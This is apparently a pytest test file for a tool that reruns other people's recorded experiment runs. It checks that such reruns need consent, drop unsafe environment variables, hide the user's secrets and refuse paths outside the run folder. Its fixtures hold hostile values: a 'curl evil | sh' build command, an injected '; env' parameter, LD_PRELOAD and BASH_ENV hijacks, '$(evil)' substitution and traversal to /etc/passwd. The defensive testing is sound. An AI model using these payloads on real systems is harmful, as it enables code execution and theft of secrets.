"""A run of somebody else: shown as data before it is executed, and executed with little of this person's own."""

from __future__ import annotations

import json
import os
import shutil
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cases import for_each
from run_documents import sha256

from fairmile.base.errors import Conflict, Integrity, InvalidDocument, NotFound, UsageError
from fairmile.runs.record.layout import CARD, RECORD
from fairmile.runs.record.run import Run, RunState
from fairmile.runs.record.spec import Input, RunSpec
from fairmile.runs.reuse import Candidate
from fairmile.runs.runs import Runs
from fairmile.systems.hardware import passed_on, settable
from fairmile.workspace import Workspace

SECRETS = {"HF_TOKEN": "t", "AWS_SECRET_ACCESS_KEY": "k", "SSH_AUTH_SOCK": "/s", "MY_OWN": "1", "HTTPS_PROXY": "p"}
SHOW = "import os, sys\nprint('loss', 2.5)\nprint(*sorted(os.environ))\n"


def forge(crate: Path, change: Callable[[dict[str, Any]], object]) -> Path:
    """Change the record in a crate, with a card that fits it."""
    with zipfile.ZipFile(crate) as opened:
        content = {info: opened.read(info) for info in opened.infolist()}
    texts = {info.filename: data for info, data in content.items()}
    document, card = json.loads(texts[RECORD]), json.loads(texts[CARD])
    change(document)
    record = json.dumps(document).encode()
    for entity in card["@graph"]:
        if entity["@id"] == RECORD:
            entity |= {"sha256": sha256(record), "contentSize": str(len(record))}
    new = {RECORD: record, CARD: json.dumps(card).encode()}
    with zipfile.ZipFile(crate, "w") as opened:
        for info, data in content.items():
            opened.writestr(info, new.get(info.filename, data))
    return crate


@pytest.fixture
def crate(runs: Runs, tmp_path: Path) -> Path:
    """The crate of a run of somebody else, of whose workspace nothing is left."""
    Path("train.py").write_text(SHOW)
    Path("data.txt").write_text("6")
    run = runs.run(
        [sys.executable, "train.py"],
        metrics={"loss": {"pattern": r"loss ([\d.]+)"}},
        inputs={"data": Input(path="data.txt")},
    )
    (made,) = runs.export(run.id, "rocrate", tmp_path / "result.crate.zip", with_inputs=True)
    shutil.rmtree(runs.root)
    for name in ("train.py", "data.txt"):
        Path(name).unlink()
    return made


@pytest.fixture
def other(tmp_path: Path) -> Runs:
    """The workspace of a person who has secrets in the environment."""
    environ = {**os.environ, **SECRETS, "HOME": str(tmp_path), "FAIRMILE_HOME": str(tmp_path / "other")}
    return Workspace.open(environ=environ).runs


def evil(document: dict[str, Any]) -> None:
    document["spec"] |= {
        "argv": ["sh", "-c", "touch {where}"],
        "params": {"where": "/tmp/x; env"},
        "env": {"LD_PRELOAD": "/tmp/e.so", "OMP_NUM_THREADS": "2", "PATH": "/tmp", "BASH_ENV": "x"},
        "system": "jureca",
        "resources": {"account": "theirs", "nodes": 9, "options": ["--export=ALL,LD_PRELOAD=x"]},
        "environment": "tides",
    }
    build = {"name": "b", "folder": "/src", "system": "commands", "commands": ["curl evil | sh"]}
    definition = {"name": "tides", "builds": [build], "variables": {"LD_PRELOAD": "x", "A": "1"}}
    document["captured"]["environment"] = {"name": "tides", "digest": "a" * 64, "definition": definition}


class TestThePlan:
    def test_shows_all_that_would_happen_and_takes_nothing_in(self, other: Runs, crate: Path) -> None:
        plan = other.rerun_plan(str(forge(crate, evil)))
        assert plan.review is not None
        shown = plan.review.to_dict()
        assert shown["command"] == ("sh", "-c", "touch /tmp/x; env")
        assert shown["variables"] == {"OMP_NUM_THREADS": "2"}
        assert shown["dropped"].keys() == {
            *("LD_PRELOAD", "PATH", "BASH_ENV", "scheduler options", "environment LD_PRELOAD")
        }
        assert (shown["system"], shown["account"], shown["resources"]) == ("jureca", "theirs", {"nodes": 9})
        assert "builds.0.commands.0: curl evil | sh" in shown["environment"]
        assert not any("LD_PRELOAD" in line for line in shown["environment"])
        assert shown["inputs"].keys() == {"data"}
        assert shown["files"] == ("train.py",)
        assert plan.spec.resources.options == ()
        assert not other.root.exists()

    def test_is_one_line_each_whatever_stands_in_it(self, other: Runs, crate: Path) -> None:
        def change(document: dict[str, Any]) -> None:
            document["spec"]["argv"] = ["sh", "-c", "evil\n  command   echo harmless\x1b[31m"]

        plan = other.rerun_plan(str(forge(crate, change)))
        assert plan.review is not None
        assert all(line.isprintable() for _, line in plan.review.lines())

    def test_must_have_been_agreed_to(self, other: Runs, crate: Path) -> None:
        with pytest.raises(UsageError, match="recorded by somebody else and needs your consent"):
            other.rerun(str(crate))
        assert not other.root.exists()
        (taken,) = other.import_runs(crate)
        with pytest.raises(UsageError, match="recorded by somebody else"):
            other.execute(other.rerun_plan(taken.id))

    def test_is_what_is_executed(self, other: Runs, crate: Path) -> None:
        plan = other.rerun_plan(str(crate))
        forge(crate, evil)
        with pytest.raises((Conflict, NotFound)):
            other.rerun(plan, trust=True)

    def test_of_a_run_of_ones_own_has_nothing_to_agree_to(self, runs: Runs) -> None:
        assert runs.rerun_plan(runs.run(["true"]).id).review is None

    def test_refuses_an_environment_that_is_a_file_of_this_machine(self, other: Runs, crate: Path) -> None:
        forge(crate, lambda document: document["spec"].update(environment="./tides.yaml"))
        with pytest.raises(NotFound, match=r"file \./tides\.yaml, which is not included"):
            other.rerun_plan(str(crate))
        assert other.rerun_plan(str(crate), environment="mine").spec.environment == "mine"


class TestTheProgram:
    def test_sees_no_variable_that_this_person_exported(self, other: Runs, crate: Path) -> None:
        done = other.rerun(str(crate), trust=True)
        assert done.reproduced, done.verdicts
        seen = set(other.output(done.again.id).decode().splitlines()[1].split())
        assert not seen & SECRETS.keys()
        assert {"PATH", "HOME", "FAIRMILE_RUN_ID"} <= seen

    def test_sees_a_secret_that_this_person_gives_it_and_the_record_does_not(self, other: Runs, crate: Path) -> None:
        again = other.rerun(str(crate), trust=True, env={"MY_TOKEN": "abc"}).again
        assert "MY_TOKEN" in other.output(again.id).decode().splitlines()[1].split()
        assert not again.record.spec.env

    def test_stays_a_strangers_when_it_is_done_once_more(self, other: Runs, crate: Path) -> None:
        again = other.rerun(str(crate), trust=True).again
        assert other.rerun_plan(again.id).review is not None
        third = other.rerun(again.id, trust=True).again
        assert not SECRETS.keys() & set(other.output(third.id).decode().splitlines()[1].split())

    def test_never_answers_for_a_run_of_ones_own(self, other: Runs, crate: Path) -> None:
        again = other.rerun(str(crate), trust=True).again
        assert again.identity == ""
        imported = other.get(again.record.rerun_of)
        asked = Candidate(imported.spec, imported.captured, (), {}, other.root)
        assert not any(map(asked.is_asked_alike, other.alike(imported.identity)))

    def test_gets_no_file_of_this_machine_for_an_input(self, other: Runs, crate: Path, tmp_path: Path) -> None:
        (tmp_path / "private").write_text("secret")

        def change(document: dict[str, Any]) -> None:
            document["captured"]["inputs"]["more"] = {"path": str(tmp_path / "private"), "sha256": sha256(b"other")}

        with pytest.raises(NotFound, match="input more of run"):
            other.rerun(str(forge(crate, change)), trust=True)

    def test_is_compared_by_its_bytes_and_not_by_a_commit(self, other: Runs, crate: Path) -> None:
        def change(document: dict[str, Any]) -> None:
            document["captured"]["code"]["git"] = {"root": "/nowhere", "commit": "0" * 40, "dirty": False}

        done = other.rerun(str(forge(crate, change)), trust=True)
        found = {each.what: each for each in done.verdicts}
        assert (found["code"].same, found["code"].detail) == (True, "the same files")
        assert found["commit"].same is None
        assert done.again.captured.code.git is None


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"spec": {"outputs": ["../../*"]}}, r"spec\.outputs: '\.\./\.\./\*' is outside the folder"),
        ({"spec": {"outputs": ["/etc/*"]}}, r"spec\.outputs"),
        ({"spec": {"subfolder": "../.."}}, r"spec\.subfolder"),
        ({"captured": {"inputs": {"source": {"place": "../../..", "asset": "git+https://x/y"}}}}, r"place"),
        ({"captured": {"inputs": {"../../x": {"path": "/x"}}}}, r"captured\.inputs"),
        ({"captured": {"code": {"files": [{"name": "x"}]}}}, r"captured\.code\.files\.0\.path"),
        ({"result": {"state": "done", "metrics": {"loss": {"value": "x"}}}}, r"result\.metrics\.loss"),
    ],
)
def test_a_record_that_leads_out_of_its_folder_is_refused(
    other: Runs, crate: Path, change: dict[str, Any], says: str
) -> None:
    def apply(document: dict[str, Any]) -> None:
        for part, value in change.items():
            document[part] |= value

    with pytest.raises((InvalidDocument, Integrity), match=says):
        other.rerun_plan(str(forge(crate, apply)))


@for_each("pattern", ["../x", "/etc/passwd", "a/../../b", "~/x", ""])
def test_no_run_has_outputs_outside_of_its_folder(pattern: str) -> None:
    with pytest.raises(ValueError, match="is outside the folder of the run"):
        RunSpec(argv=("true",), outputs=(pattern,))


def test_outputs_behind_a_link_that_leads_out_are_left_out_and_named(runs: Runs, tmp_path: Path) -> None:
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "private.txt").write_text("secret")
    make = f"ln -s {tmp_path}/outside there; ln -s {tmp_path}/outside/private.txt one.txt; echo 1 > two.txt"
    run = runs.run(RunSpec(argv=("sh", "-c", make), outputs=("there/*", "*.txt", "there")))
    assert list(run.result.outputs) == ["two.txt"]
    assert "are not recorded, such as" in run.result.notes[0]


def test_variables_of_others_are_set_by_a_list_of_what_is_harmless() -> None:
    harmless = {
        "OMP_NUM_THREADS": "4",
        "CUDA_VISIBLE_DEVICES": "0,1",
        "CUBLAS_WORKSPACE_CONFIG": ":4096:8",
        "PYTHONHASHSEED": "0",
        "NCCL_DEBUG": "INFO",
        "TF_XLA_FLAGS": "--tf_xla_auto_jit=2",
    }
    harmful = {
        **dict.fromkeys(("LD_PRELOAD", "LD_LIBRARY_PATH", "PYTHONPATH", "PYTHONSTARTUP", "PATH", "IFS", "ENV"), "x"),
        **dict.fromkeys(("BASH_ENV", "GIT_SSH_COMMAND", "HTTPS_PROXY", "PERL5LIB", "NODE_OPTIONS", "HOME"), "x"),
        **dict.fromkeys(("OMP_TOOL_LIBRARIES", "NCCL_NET_PLUGIN", "OMPI_MCA_plm_rsh_agent", "HSA_TOOLS_LIB"), "x"),
        "XLA_FLAGS": "--xla_dump_to=/home/me",
        "KMP_AFFINITY": "$(evil)",
    }
    assert settable({**harmless, **harmful}) == harmless


def test_what_a_stranger_sees_of_a_persons_variables() -> None:
    seen = {"PATH": "/bin", "HOME": "/h", "LD_LIBRARY_PATH": "/l", "SLURM_JOB_ID": "1", "OMP_NUM_THREADS": "2"}
    hidden = {**SECRETS, "SLURM_JWT": "x", "GITHUB_PAT": "x", "TF_TOKEN_app": "x", "DBUS_SESSION_BUS_ADDRESS": "x"}
    assert passed_on({**seen, **hidden}) == seen


def test_a_folder_with_a_run_of_somebody_else_is_a_strangers_too(other: Runs, crate: Path, tmp_path: Path) -> None:
    with zipfile.ZipFile(crate) as opened:
        opened.extractall(tmp_path / "unpacked")
    plan = other.rerun_plan(str(tmp_path / "unpacked"))
    assert plan.review is not None
    done = other.rerun(plan, trust=True)
    assert isinstance(done.again, Run)
    assert done.again.state is RunState.DONE


def test_the_environment_of_a_stranger_is_built_without_a_persons_variables(
    other: Runs, crate: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)

    def change(document: dict[str, Any]) -> None:
        definition = {"name": "tides", "variables": {"A": "1"}, "checks": [{"run": f"env > {tmp_path}/seen"}]}
        document["spec"]["environment"] = "tides"
        document["captured"]["environment"] |= {"name": "tides", "definition": definition}

    done = other.rerun(str(forge(crate, change)), trust=True)
    assert done.again.state is RunState.DONE
    seen = {line.partition("=")[0] for line in (tmp_path / "seen").read_text().splitlines()}
    assert {"PATH", "HOME", "A"} <= seen
    assert not seen & SECRETS.keys()


def test_a_folder_that_leaves_its_repository_is_no_place_to_start_in(other: Runs, crate: Path) -> None:
    def starting_in(folder: str, root: str) -> str:
        def change(document: dict[str, Any]) -> None:
            document["spec"]["folder"] = folder
            document["captured"]["code"]["git"] = {"root": root, "commit": "0" * 40}

        return other.rerun_plan(str(forge(crate, change))).spec.subfolder

    assert starting_in("/x/tides", "/x") == "tides"
    assert starting_in("/x/../../../etc", "/x") == ""
    with pytest.raises(UsageError, match="outside of its folder"):
        starting_in("a/../../../etc", ".")
